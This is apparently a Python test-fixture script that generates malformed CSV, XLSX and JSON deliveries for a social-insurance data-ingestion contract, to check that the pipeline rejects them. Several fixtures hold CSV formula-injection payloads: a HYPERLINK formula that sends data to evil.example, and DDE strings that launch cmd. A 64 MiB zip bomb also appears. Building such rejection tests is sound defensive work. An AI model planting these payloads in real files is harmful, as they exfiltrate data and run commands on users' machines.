"""Write the malformed-input corpus beside this file: `python tests/data/malformed/make_corpus.py`.

Each file is a delivery for the social-insurance contract (``rsj_social_insurance``: GBK CSV,
seven columns) that must be refused, or quarantined, for one specific reason; ``EXPECTED.yaml``
says which, with the line, and the contract options the file is delivered under. The rows are
valid by construction (the project's generators, fixed seeds) except for the one defect, so the
bytes are the same on every run; ``tests/lakehouse/test_malformed_corpus.py`` checks that the
committed files are what this script writes.
"""

from __future__ import annotations

import codecs
import gzip
import io
import json
import random
import sys
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parents[2]))

from schemas.generators import (  # noqa: E402
    citizen_id,
    corrupt_check_char,
    current_division,
    uscc,
)

HEADER = (
    "身份证号码",
    "姓名",
    "单位统一社会信用代码",
    "单位名称",
    "缴费月份",
    "缴费金额",
    "参保地区划代码",
)
NAMES = ("张三", "李四", "王五", "赵六", "钱七", "孙八", "周九", "吴十", "郑秋", "冯春")
STAMP = (2023, 6, 1, 0, 0, 0)


def rows(n: int, seed: int) -> list[list[str]]:
    rng = random.Random(seed)
    return [
        [
            citizen_id(rng),
            NAMES[i % len(NAMES)],
            uscc(rng),
            f"杭州第{i + 1}有限公司",
            "2023-05",
            f"{rng.randrange(100, 9999)}.{rng.randrange(100):02d}",
            current_division(rng, "33"),
        ]
        for i in range(n)
    ]


def csv_text(
    table: Sequence[Sequence[str]], delimiter: str = ",", header: Sequence[str] = HEADER
) -> str:
    def cell(value: str) -> str:
        quoted = '"' + value.replace('"', '""') + '"'
        return quoted if any(c in value for c in f'{delimiter}"\r\n') else value

    return "".join(delimiter.join(cell(c) for c in row) + "\r\n" for row in [header, *table])


def gbk(table: Sequence[Sequence[str]], **kwargs: str) -> bytes:
    return csv_text(table, **kwargs).encode("gbk")


def with_cell(seed: int, row: int, column: int, value: str, n: int = 5) -> bytes:
    table = rows(n, seed)
    table[row][column] = value
    return gbk(table)


def _zip(members: dict[str, bytes], level: int = 6) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, STAMP)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return out.getvalue()


def _cell(ref: str, value: object) -> str:
    if isinstance(value, str) and value.startswith("="):
        return f'<c r="{ref}"><f>{value[1:]}</f></c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    text = str(value).replace("&", "&amp;").replace("<", "&lt;")
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def xlsx(
    table: Sequence[Sequence[object]],
    *,
    sheet: str = "Sheet1",
    extra: dict[str, bytes] | None = None,
    macro: bool = False,
) -> bytes:
    """A minimal workbook (inline strings), written byte for byte the same on every run."""
    body = "".join(
        f'<row r="{r}">'
        + "".join(_cell(f"{chr(65 + c)}{r}", v) for c, v in enumerate(row) if v is not None)
        + "</row>"
        for r, row in enumerate([HEADER, *table], start=1)
    )
    main = (
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
        if macro
        else ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
    )
    members = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
            'package/2006/content-types"><Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
            f'ContentType="{main}"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType='
            '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
        ).encode(),
        "_rels/.rels": (
            b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
            b'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            b'Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats'
            '.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
            f'officeDocument/2006/relationships"><sheets><sheet name="{sheet}" sheetId="1" '
            'r:id="rId1"/></sheets></workbook>'
        ).encode(),
        "xl/_rels/workbook.xml.rels": (
            b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
            b'schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            b'Target="worksheets/sheet1.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
            f'openxmlformats.org/spreadsheetml/2006/main"><sheetData>{body}</sheetData></worksheet>'
        ).encode(),
    }
    members.update(extra or {})
    return _zip(members)


def json_bytes(value: object) -> bytes:
    return json.dumps(value, ensure_ascii=False, indent=1).encode("utf-8")


def objects(n: int, seed: int) -> list[dict[str, str]]:
    return [dict(zip(HEADER, row, strict=True)) for row in rows(n, seed)]


def _late(seed: int, bad: bytes, encoding: str = "gbk") -> bytes:
    """900 rows (past the 64 KiB the detector samples) whose last employer name is ``bad``."""
    table = rows(900, seed)
    table[-1][3] = "@@BAD@@"
    return csv_text(table).encode(encoding).replace(b"@@BAD@@", bad)


def _corrupt_sheet() -> bytes:
    """A workbook whose directory is sound but whose sheet's compressed bytes are damaged."""
    data = bytearray(xlsx(rows(20, 47)))
    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for at in range(start + info.compress_size // 2, start + info.compress_size // 2 + 16):
        data[at] ^= 0x5A
    return bytes(data)


def _bad_check_digit() -> bytes:
    table = rows(50, 60)
    table[5][0] = corrupt_check_char(table[5][0], "0123456789X")
    return gbk(table)


def _nested() -> bytes:
    records: list[dict[str, object]] = list(objects(3, 52))
    records[1]["姓名"] = {"姓": "张", "名": "三"}
    return json_bytes(records)


def _missing_key() -> bytes:
    records = objects(3, 54)
    for record in records:
        del record["缴费金额"]
    return json_bytes(records)


def _duplicate_key() -> bytes:
    table = rows(50, 63)
    table[7] = list(table[1])
    return gbk(table)


BUILDERS: dict[str, Callable[[], bytes]] = {
    "empty.csv": lambda: b"",
    "whitespace_only.csv": lambda: b"\r\n   \r\n\t\r\n",
    "header_only.csv": lambda: gbk([]),
    "header_then_blank_lines.csv": lambda: gbk([]) + b"\r\n\r\n",
    "truncated_in_gbk_character.csv": lambda: gbk(rows(3, 5))[:-2] + "张".encode("gbk")[:1],
    "truncated_in_utf8_character.csv": lambda: (
        csv_text(rows(3, 6)).encode()[:-2] + "张".encode()[:2]
    ),
    "invalid_gbk_bytes.csv": lambda: with_cell(7, 2, 1, "@@").replace(b"@@", b"\xff\xfe"),
    "utf8_declared_gbk.csv": lambda: csv_text(rows(4, 8)).encode("utf-8"),
    "gbk_declared_utf8.csv": lambda: gbk(rows(4, 9)),
    "mixed_utf8_line_in_gbk.csv": lambda: with_cell(10, 2, 1, "@@").replace(b"@@", "周杰".encode()),
    "mixed_gbk_line_in_utf8.csv": lambda: (
        csv_text(rows(4, 11)).encode().replace("王五".encode(), "王五".encode("gbk"))
    ),
    "mixed_gbk_past_the_sample.csv": lambda: _late(12, "周杰".encode("gbk"), "utf-8"),
    "utf8_bom_declared_gbk.csv": lambda: codecs.BOM_UTF8 + csv_text(rows(3, 13)).encode(),
    "utf16_declared_gbk.csv": lambda: csv_text(rows(3, 14)).encode("utf-16"),
    "semicolon_delimited.csv": lambda: gbk(rows(3, 15), delimiter=";"),
    "tab_delimited.csv": lambda: gbk(rows(3, 16), delimiter="\t"),
    "full_width_comma_delimited.csv": lambda: gbk(rows(3, 17), delimiter="，"),
    "missing_required_column.csv": lambda: gbk(
        [r[:5] + r[6:] for r in rows(3, 18)], header=HEADER[:5] + HEADER[6:]
    ),
    "duplicate_header_column.csv": lambda: gbk(
        rows(3, 19), header=(*HEADER[:3], "姓名", *HEADER[4:])
    ),
    "row_missing_a_column.csv": lambda: gbk(
        [r if i != 3 else r[:6] for i, r in enumerate(rows(5, 20))]
    ),
    "row_with_an_extra_column.csv": lambda: gbk(
        [r if i != 1 else [*r, "多"] for i, r in enumerate(rows(5, 21))]
    ),
    "value_past_a_trailing_delimiter.csv": lambda: gbk(
        [[*r, "" if i != 2 else "多余"] for i, r in enumerate(rows(5, 22))]
    ),
    "unterminated_quote.csv": lambda: with_cell(23, 2, 3, "@@").replace(b"@@", b'"unclosed'),
    "huge_field.csv": lambda: with_cell(24, 1, 3, "x" * ((1 << 20) + 10)),
    "nul_bytes.csv": lambda: with_cell(25, 2, 1, "@@").replace(b"@@", b"\x00\x00"),
    "nul_byte_past_the_sample.csv": lambda: _late(26, b"\x00"),
    "binary_garbage.csv": lambda: random.Random(27).randbytes(4096),
    "elf_executable.csv": lambda: b"\x7fELF\x02\x01\x01\x00" + random.Random(28).randbytes(512),
    "pdf_document.csv": lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n",
    "gzipped.csv": lambda: gzip.compress(gbk(rows(3, 29)), mtime=0),
    "zip_of_a_csv.csv": lambda: _zip({"data.csv": gbk(rows(3, 30))}),
    "old_excel_ole2.xls": lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504),
    "png_image.csv": lambda: b"\x89PNG\r\n\x1a\n" + bytes(64),
    "xlsx_to_a_csv_contract.xlsx": lambda: xlsx(rows(3, 31)),
    "xlsx_formula.xlsx": lambda: xlsx(
        [r if i != 1 else [*r[:5], "=100*2", r[6]] for i, r in enumerate(rows(3, 32))]
    ),
    "xlsx_macro.xlsm": lambda: xlsx(
        rows(3, 33), macro=True, extra={"xl/vbaProject.bin": bytes(range(256)) * 4}
    ),
    "xlsx_external_link.xlsx": lambda: xlsx(
        rows(3, 34),
        extra={
            "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
        },
    ),
    "xlsx_zip_bomb.xlsx": lambda: xlsx(
        rows(2, 35), extra={"xl/worksheets/sheet2.xml": bytes(64 << 20)}
    ),
    "xlsx_id_stored_as_number.xlsx": lambda: xlsx(
        [r if i != 1 else [110101199003076631, *r[1:]] for i, r in enumerate(rows(3, 36))]
    ),
    "xlsx_missing_sheet.xlsx": lambda: xlsx(rows(3, 37), sheet="汇总"),
    "xlsx_value_past_the_header.xlsx": lambda: xlsx(
        [r if i != 2 else [*r, "多余"] for i, r in enumerate(rows(4, 38))]
    ),
    "xlsx_header_only.xlsx": lambda: xlsx([]),
    "xlsx_damaged.xlsx": lambda: xlsx(rows(3, 39))[:300],
    "xlsx_corrupt_sheet_data.xlsx": _corrupt_sheet,
    "formula_hyperlink.csv": lambda: with_cell(
        40, 1, 3, '=HYPERLINK("http://evil.example/?"&A2,"详情")'
    ),
    "formula_plus.csv": lambda: with_cell(41, 2, 1, "+1+cmd|' /C calc'!A0"),
    "formula_minus.csv": lambda: with_cell(42, 0, 3, "-2+3+cmd|' /C calc'!A0"),
    "formula_at.csv": lambda: with_cell(43, 3, 3, "@SUM(1+9)*cmd|' /C calc'!A0"),
    "excel_scientific_id.csv": lambda: with_cell(44, 1, 0, "1.10101E+17", n=50),
    "excel_scientific_in_a_text_column.csv": lambda: with_cell(46, 4, 3, "9.13301E+17", n=50),
    "excel_scientific_uscc.csv": lambda: with_cell(45, 3, 2, "9.13301E+17"),
    "json_not_json.json": lambda: "身份证号码,姓名\r\n".encode(),
    "json_truncated.json": lambda: json_bytes(objects(3, 50))[:-40],
    "json_array_of_arrays.json": lambda: json_bytes([list(r) for r in rows(2, 51)]),
    "json_nested_object.json": _nested,
    "ndjson_bad_line.ndjson": lambda: b"\n".join(
        [json.dumps(o, ensure_ascii=False).encode() for o in objects(2, 53)] + [b'{"x": ']
    ),
    "json_empty_array.json": lambda: b"[]\n",
    "json_missing_required_key.json": _missing_key,
    "json_nul_character.json": lambda: json_bytes(
        [{**o, "姓名": "张\u0000三"} for o in objects(2, 55)]
    ),
    "invalid_check_digit.csv": _bad_check_digit,
    "amount_not_a_number.csv": lambda: with_cell(61, 3, 5, "一千元", n=50),
    "required_value_missing.csv": lambda: with_cell(62, 2, 1, "", n=50),
    "duplicate_key_rows.csv": _duplicate_key,
}


def main(folder: Path = HERE) -> None:
    for name, build in BUILDERS.items():
        (folder / name).write_bytes(build())


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE)
